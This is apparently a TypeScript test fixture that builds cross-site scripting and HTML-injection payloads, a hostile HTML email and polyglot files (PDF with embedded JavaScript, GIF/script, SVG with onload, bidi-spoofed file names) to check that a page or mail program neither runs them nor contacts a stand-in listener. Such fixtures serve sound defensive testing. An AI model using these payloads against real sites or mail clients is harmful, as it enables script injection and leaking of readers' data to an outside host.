/**
 * What a stranger may write where a text belongs, hoping that a page takes it for more: each calls `__ran`, or asks
 * `evil`, the address of a listener, when it gets its way. One line each, unlike all others by its end.
 */

export interface HostileText {
  readonly text: string
  /** By this it is found: letters and digits only, at its end. */
  readonly mark: string
  /** In a page that takes it for markup it runs by itself: the test of the test. */
  readonly runs: boolean
}

/** They run by themselves where they are taken for markup. */
const running = [
  '<script>__ran(1)</script>',
  '"><script>__ran(1)</script>',
  "'><script>__ran(1)</script>",
  '</title></style></textarea><script>__ran(1)</script>',
  '--><script>__ran(1)</script><!--',
  '<ScRiPt/x>__ran(1)</sCrIpT>',
  '<img src=x: onerror=__ran(1)>',
  '"><img src=x: onerror="__ran(1)">',
  '<img/src="x:"/onerror=__ran(1)>',
  '<svg onload=__ran(1)>',
  '<svg><script>__ran(1)</script></svg>',
  '<svg><animate onbegin=__ran(1) attributeName=x dur=1s></svg>',
  '<input autofocus onfocus=__ran(1)>',
  '<iframe srcdoc="<script>parent.__ran(1)</script>"></iframe>',
  '<iframe src="javascript:parent.__ran(1)"></iframe>',
  '<video><source src=x: onerror=__ran(1)></video>',
  '<details open ontoggle=__ran(1)>x</details>',
  '<style>@keyframes q{}</style><b style="animation:q 1ms" onanimationstart=__ran(1)>x</b>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=__ran(1)&gt;"></table>' +
    '</mtext></math><img src=x: onerror=__ran(1)>',
  '<noscript><p title="</noscript><img src=x: onerror=__ran(1)>"></noscript><img src=x: onerror=__ran(1)>',
  '<template><s><template><s><img src=x: onerror=__ran(1)>x</s></template></s></template><svg/onload=__ran(1)>',
]

/** They need a click, a certain place in a program, or a reader who is fooled. */
const patient = [
  '<a href="javascript:__ran(1)">click</a>',
  'javascript:__ran(1)',
  'JaVaScRiPt:__ran(1)',
  'java\u200bscript:__ran(1)',
  'data:text/html,<script>__ran(1)</script>',
  'vbscript:__ran(1)',
  'https://posthorn.invalid/"onmouseover="__ran(1)',
  '[click](javascript:__ran(1))',
  '![x](x: "onerror=__ran(1)")',
  '{{constructor.constructor("__ran(1)")()}}',
  '$' + '{__ran(1)}',
  '<%= __ran(1) %>',
  '__proto__',
  'constructor',
  'toString',
  '{"__html":"<img src=x: onerror=__ran(1)>"}',
  '\u202egnp.exe\u202c <script>__ran(1)</script>',
  '\u2066\u202e<b>\u2069',
  '\uff1cscript\uff1e__ran(1)\uff1c/script\uff1e',
  '&lt;script&gt;__ran(1)&lt;/script&gt;',
  '&#x3c;img src=x: onerror=__ran(1)&#x3e;',
  '%3Cscript%3E__ran(1)%3C/script%3E',
  '+ADw-script+AD4-__ran(1)+ADw-/script+AD4-',
  "';__ran(1);'",
  '\\u003cscript\\u003e__ran(1)\\u003c/script\\u003e',
]

export function hostileTexts(evil: string): readonly HostileText[] {
  const asking = [
    `<img src="${evil}/image">`,
    `<link rel=stylesheet href="${evil}/style"><style>@import "${evil}/import";</style>`,
    `<form action="${evil}/form"><button>send</button></form>`,
    `<meta http-equiv=refresh content="0;url=${evil}/refresh">`,
    `<base href="${evil}/"><img src=relative>`,
  ]
  return [
    ...[...running, ...asking].map(text => ({ text, runs: true })),
    ...patient.map(text => ({ text, runs: false })),
  ]
    .map(({ text, runs }, index) => ({ runs, mark: `hostile${index + 100}`, text }))
    .map(({ text, mark, runs }) => ({ runs, mark, text: `${text} ${mark}` }))
}

/** How a text reads: without letters that nobody sees, each gap one space. */
export function read(text: string): string {
  return text
    .replaceAll(/\p{Cf}/gu, '')
    .replaceAll(/\s+/g, ' ')
    .trim()
}

/** A letter of a mail program that tries all that HTML can do. */
export function hostileMail(evil: string): string {
  return `<html><head><base href="${evil}/base/"><meta http-equiv=refresh content="0;url=${evil}/refresh">
<link rel=stylesheet href="${evil}/style"><link rel=prefetch href="${evil}/prefetch">
<link rel=dns-prefetch href="${evil}"><style>@import "${evil}/import"; p{background:url(${evil}/background)}
@font-face{font-family:x;src:url(${evil}/font)} p{font-family:x}</style><script>__ran(1)</script>
<script src="${evil}/script"></script></head><body onload="__ran(1)" background="${evil}/body"><p>A hostile letter</p>
<img src=x: onerror="__ran(1)"><img src="${evil}/image"><img srcset="${evil}/srcset 1x"><svg onload="__ran(1)">
<image href="${evil}/svg"/><script>__ran(1)</script></svg><iframe src="${evil}/frame"></iframe>
<iframe srcdoc="<script>top.__ran(1)</script>"></iframe><object data="${evil}/object"></object>
<embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster" autoplay></video>
<form action="${evil}/form"><input name=a value=b autofocus onfocus="__ran(1)"><button>Send it</button></form>
<a href="javascript:__ran(1)">A program</a> <a href="javascript:__ran(1)" target="_self">A program here</a>
<a href="data:text/html,<script>__ran(1)</script>">A page</a><a href="${evil}/ping" ping="${evil}/pinged">x</a>
<math><mi xlink:href="javascript:__ran(1)">x</mi></math><script>top.location="${evil}/top"</script></body></html>`
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="__ran(1)"><script>__ran(1)</script></svg>`
const page = '<!doctype html><title>x</title><body onload="__ran(1)"><script>__ran(1)</script>'

export interface HostileFile {
  readonly name: string
  readonly content: string | Buffer
  readonly kind: 'image' | 'file'
}

/** @param picture a true PNG, for those that are a picture and more. */
export function hostileFiles(picture: Buffer): readonly HostileFile[] {
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n${page}`
  return [
    { name: '"><img src=x: onerror=__ran(1)>.png', content: picture, kind: 'image' },
    { name: 'page.html', content: page, kind: 'file' },
    {
      name: 'page.xhtml',
      content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>__ran(1)</script></html>`,
      kind: 'file',
    },
    { name: 'drawing.svg', content: svg, kind: 'file' },
    { name: 'drawing-as-image.svg', content: svg, kind: 'image' },
    { name: 'svg-as.png', content: svg, kind: 'image' },
    { name: 'html-as.jpg', content: page, kind: 'image' },
    { name: 'paper.pdf', content: pdf, kind: 'file' },
    { name: 'gif-and-script.gif', content: `GIF89a/*${page}*/=1;__ran(1)`, kind: 'file' },
    { name: 'picture-and-page.html', content: Buffer.concat([picture, Buffer.from(page)]), kind: 'file' },
    { name: 'script.js', content: '__ran(1)', kind: 'file' },
    {
      name: 'sheet.xml',
      content: `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>__ran(1)</h:script></x>`,
      kind: 'file',
    },
    { name: '\u202egnp.<svg onload=__ran(1)>.html', content: page, kind: 'file' },
  ]
}
